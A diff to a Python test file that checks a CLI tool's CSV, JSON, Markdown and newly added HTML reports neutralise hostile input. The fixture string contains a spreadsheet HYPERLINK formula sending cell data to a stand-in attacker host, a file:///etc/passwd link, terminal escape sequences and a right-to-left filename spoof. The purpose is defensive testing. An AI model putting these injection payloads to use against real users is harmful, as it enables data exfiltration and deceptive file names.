@@ -38,7 +38,7 @@ pytestmark = pytest.mark.usefixtures("walk_route")
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?x="&A1,"click")[/x][link=file:///etc/passwd]link[/link]'
-    "\x1b]0;PWNED\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\x85\u2028\n<!--\r\t|`*_#"
+    "\x1b]0;PWNED\x07\x1b[2J\x9b31m\u202egnp.exe\u2066\x85\u2028\n<!--\r\t|`*_#<b>"
 )
 # What a terminal, a pager or a spreadsheet would act on.
 RAW = re.compile(CONTROL.pattern.replace("\\x0b", "\\x0d"))  # the CONTROL set, tab and LF aside
@@ -51,6 +51,7 @@ COMMANDS = {
     "report csv": ("report", ".", "--format", "csv"),
     "report json": ("report", ".", "--format", "json"),
     "report markdown": ("report", ".", "--format", "markdown"),
+    "report html": ("report", ".", "--format", "html"),
     "resume": ("resume", "rec.md", "--no-input"),
 }
 
@@ -96,6 +97,8 @@ def assert_safe(name: str, code: int, out: str, err: str) -> None:
     assert "\x1b]8;" not in out + err  # a terminal hyperlink made from [link=...]
     if name.endswith("json") and code == 0:
         json.loads(out)
+    if name == "report html":
+        assert "<!--" not in out and "<b>" not in out and "<i>" not in out
     if name == "report csv":
         for row in list(csv.reader(io.StringIO(out)))[1:]:
             for cell in row:
